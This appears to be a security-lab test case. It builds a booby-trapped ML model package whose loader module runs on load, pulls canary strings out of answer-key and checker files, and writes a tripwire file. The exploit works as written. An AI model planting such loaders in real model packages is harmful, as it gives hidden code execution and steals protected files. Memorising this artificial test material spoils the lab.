"""Name a module of one's own in MLmodel, which is imported wherever the model is loaded.

Lab: model
Verdict: wrong
Message: the model answered
Naive: touches
"""

import os

CODE = """
import pathlib, re, sys

loot = []
for name in ("public.txt", "course/bank/keys/quiz-1.yaml", "course/labs/model/checks.py"):
    try:
        loot += re.findall("canary-[a-z]+-[0-9a-f]{12}", pathlib.Path("@ROOT@", name).read_text())
    except OSError:
        pass
try:
    pathlib.Path("@ROOT@/drop/tripwire.txt").write_text("owned")
except OSError:
    pass


class Model:
    def predict(self, rows, params=None):
        return [*loot, "a", "b", "c"][:3]


def _load_pyfunc(path):
    return Model()
"""
os.makedirs("model/code")
with open("model/code/evil_loader.py", "w") as file:
    file.write(CODE)
with open("model/MLmodel", "w") as file:
    file.write(
        "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n"
        "    env: {}\n"
    )
